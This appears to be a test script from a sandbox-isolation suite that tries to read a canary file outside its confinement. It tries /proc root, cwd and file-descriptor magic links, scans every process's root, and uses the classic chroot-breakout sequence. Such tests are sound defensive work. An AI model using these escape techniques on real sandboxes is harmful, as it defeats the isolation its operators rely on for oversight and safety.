# Leave through the magic links of /proc.
import os

secret = WORLD["canary_file"]


def through(path):
    with open(path) as file:
        return file.read()


def any_root():
    for name in os.listdir("/proc"):
        if name.isdigit():
            try:
                return through(f"/proc/{name}/root{secret}")
            except OSError as error:
                last = error
    raise last




fd = os.open("/", os.O_PATH | os.O_DIRECTORY)
attempt("root", through, "/proc/self/root" + secret)
attempt("root_up", through, "/proc/self/root/../../../../.." + secret)
attempt("cwd", through, "/proc/self/cwd/../../../../../../.." + secret)
attempt("init_root", through, "/proc/1/root" + secret)
attempt("init_cwd", through, "/proc/1/cwd/../../../.." + secret)
attempt("any_root", any_root)
attempt("descriptor", through, f"/proc/self/fd/{fd}/../../../.." + secret)
attempt("chroot", lambda: (os.mkdir("/tmp/jar"), os.chroot("/tmp/jar"), os.fchdir(fd), os.chroot("../../../.."), open(secret).read())[-1])
